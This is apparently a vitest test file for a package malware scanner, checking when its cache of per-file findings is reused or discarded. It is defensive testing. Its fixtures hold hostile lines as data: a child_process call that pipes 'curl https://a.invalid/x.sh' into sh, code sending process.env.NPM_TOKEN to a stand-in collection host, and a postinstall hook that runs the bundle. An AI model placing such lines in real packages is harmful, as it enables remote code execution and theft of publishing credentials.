import { expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { readMemory } from '../src/read/memory.js';
import type { FileMemory, Kept } from '../src/run/kept.js';
import { analyse } from '../src/run/package.js';
import type { Report } from '../src/types.js';

/** Long enough to be worth keeping. */
const FILLING = `${'exports.list = [1, 2, 3];\n'.repeat(1_000)}`;
const BUNDLE = `${FILLING}require('child_process').exec('curl https://a.invalid/x.sh | sh');\n`;
const ASKS = `${FILLING}const key = process.env.NPM_TOKEN;\nrequire('https').get('https://collect.example.invalid/?' + key);\n`;

/** A memory that tells what was asked of it and what it was given. */
function memory(): FileMemory & { readonly kept: Map<string, Kept>; readonly used: string[] } {
  const kept = new Map<string, Kept>();
  const used: string[] = [];
  return {
    kept,
    used,
    get(file) {
      const found = kept.get(`${file.path}\n${file.text}`);
      if (found) used.push(file.path);
      return found;
    },
    set: (file, told) => kept.set(`${file.path}\n${file.text}`, JSON.parse(JSON.stringify(told))),
  };
}

async function scan(files: Readonly<Record<string, string>>, of?: FileMemory): Promise<Report> {
  return analyse(await readMemory({ files }), rules, of ? { memory: of } : {});
}

const manifest = (version: string, more = ''): string =>
  `{"name":"collect-things","version":"${version}","main":"bundle.js"${more}}`;

test('a bundle that stays the same says the same in the next version', async () => {
  const known = memory();
  const first = await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': BUNDLE }, known);
  expect(first.findings.length).toBeGreaterThan(0);
  expect(known.kept.size).toBe(1);
  const next = { 'package.json': manifest('1.0.1'), 'bundle.js': BUNDLE, 'readme.md': '# More' };
  expect(await scan(next, known)).toEqual(await scan(next));
  expect(known.used).toEqual(['bundle.js']);
});

test('a file that imports another, or that another imports, is not kept', async () => {
  const known = memory();
  await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': `${BUNDLE}require('./b');`, 'b.js': '1;' }, known);
  await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': BUNDLE, 'a.js': `require('./bundle').list;` }, known);
  expect(known.kept.size).toBe(0);
});

test('a bundle is analysed again once another file imports it', async () => {
  const known = memory();
  await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': BUNDLE }, known);
  const next = {
    'package.json': manifest('1.0.1'),
    'bundle.js': BUNDLE,
    'a.js': `require('./bundle').list(require('child_process').exec);`,
  };
  expect(await scan(next, known)).toEqual(await scan(next));
  expect(known.used).toEqual([]);
});

test('a bundle that runs at another moment is analysed again', async () => {
  const known = memory();
  await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': BUNDLE }, known);
  const next = {
    'package.json': manifest('1.0.1', ',"scripts":{"postinstall":"node bundle.js"}'),
    'bundle.js': BUNDLE,
  };
  expect(await scan(next, known)).toEqual(await scan(next));
});

test('an address that is another package’s own is not this one’s', async () => {
  const known = memory();
  await scan({ 'package.json': '{"name":"example","version":"1.0.0","main":"bundle.js"}', 'bundle.js': ASKS }, known);
  const next = { 'package.json': '{"name":"other","version":"1.0.0","main":"bundle.js"}', 'bundle.js': ASKS };
  expect(await scan(next, known)).toEqual(await scan(next));
});

test('a bundle that looked for a file is analysed again once there is one', async () => {
  const known = memory();
  const seeking = `${FILLING}const name = './' + 'late' + 'r';\nrequire(name).run();\n`;
  await scan({ 'package.json': manifest('1.0.0'), 'bundle.js': seeking }, known);
  const next = {
    'package.json': manifest('1.0.1'),
    'bundle.js': seeking,
    'later.js': `exports.run = () => require('child_process').exec('curl https://a.invalid/x.sh | sh');`,
  };
  expect(await scan(next, known)).toEqual(await scan(next));
});
